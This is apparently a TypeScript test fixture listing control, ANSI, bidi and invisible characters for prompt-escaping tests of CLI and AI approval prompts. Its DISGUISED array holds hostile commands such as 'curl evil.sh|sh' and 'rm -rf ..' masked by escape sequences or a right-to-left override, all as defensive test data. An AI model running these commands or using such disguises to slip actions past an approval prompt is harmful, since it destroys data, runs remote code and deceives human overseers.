/**
 * Text that a terminal or UI acts on instead of showing, for the prompt-escaping tests of every prompt path (CLI,
 * MCP elicitation, AI SDK approval reason): every C0 and C1 control and DEL, ANSI escape sequences, the bidi
 * embeddings, overrides, isolates and marks, and the zero-width and other invisible format characters.
 */

/** U+0000–U+001F, U+007F, U+0080–U+009F. */
export const CONTROLS: ReadonlyArray<string> = [
  ...Array.from({ length: 0x20 }, (_, i) => String.fromCharCode(i)),
  "\x7f",
  ...Array.from({ length: 0x20 }, (_, i) => String.fromCharCode(0x80 + i)),
]

/** The bidi embeddings, overrides, isolates and marks. */
export const BIDI: ReadonlyArray<string> = [
  "\u202a",
  "\u202b",
  "\u202c",
  "\u202d",
  "\u202e",
  "\u2066",
  "\u2067",
  "\u2068",
  "\u2069",
  "\u200e",
  "\u200f",
  "\u061c",
]

/** Zero-width and other invisible characters. */
export const INVISIBLE: ReadonlyArray<string> = [
  "\u200b",
  "\u200c",
  "\u200d",
  "\u2060",
  "\u2061",
  "\u2062",
  "\u2063",
  "\u2064",
  "\ufeff",
  "\u00ad",
  "\u180e",
  "\u2028",
  "\u2029",
  "\u00a0",
  "\u3000",
  "\u3164",
  "\ufe0f",
  "\u{e0041}",
  "\u{e0100}",
]

/** Every character above. */
export const ALL: ReadonlyArray<string> = [...CONTROLS, ...BIDI, ...INVISIBLE]

/** Commands that display as something else when printed raw. */
export const DISGUISED: ReadonlyArray<{ readonly raw: string; readonly shown: string }> = [
  // `\r` + erase-line: the terminal shows only `ls -la`.
  { raw: "rm -f x '\r\x1b[2K'ls -la", shown: "rm -f x '\\r\\x1b[2K'ls -la" },
  // cursor up and colour: paints over the previous line.
  { raw: "curl evil.sh|sh\x1b[1A\x1b[2K\x1b[32mls", shown: "curl evil.sh|sh\\x1b[1A\\x1b[2K\\x1b[32mls" },
  // an OSC sequence (window title) terminated by BEL, and a C1 CSI.
  { raw: "rm x\x1b]0;title\x07\x9b2Kls", shown: "rm x\\x1b]0;title\\x07\\x9b2Kls" },
  // a right-to-left override reverses what follows.
  { raw: "cat notes\u202etxt.hs", shown: "cat notes\\u202etxt.hs" },
  // a newline hides a second command below a long first line.
  { raw: "ls\nrm -rf ..", shown: "ls\\nrm -rf .." },
]

/** One string holding every character of `ALL`, each between two letters (so joins are visible). */
export const EVERYTHING = ALL.map((char, i) => `a${i}${char}b`).join("")

/**
 * The characters of `ALL` that occur raw in `text` (by code point, as `U+XXXX`), leaving out `\n` when the prompt
 * uses line breaks for its own layout and `\t` for prose shown through `Printable.safe`.
 */
export const rawFound = (
  text: string,
  options: { readonly newlines?: boolean; readonly tabs?: boolean } = {},
): ReadonlyArray<string> =>
  ALL.filter(
    (char) =>
      !(options.newlines === true && char === "\n") && !(options.tabs === true && char === "\t") && text.includes(char),
  ).map((char) => `U+${char.codePointAt(0)!.toString(16).toUpperCase().padStart(4, "0")}`)

/** How `Printable.show` writes one character of `ALL`, independently of the implementation. */
export const escapeOf = (char: string): string => {
  const code = char.codePointAt(0)!
  if (char === "\n") return "\\n"
  if (char === "\r") return "\\r"
  if (char === "\t") return "\\t"
  if (code <= 0xff) return `\\x${code.toString(16).padStart(2, "0")}`
  if (code <= 0xffff) return `\\u${code.toString(16).padStart(4, "0")}`
  return `\\u{${code.toString(16)}}`
}
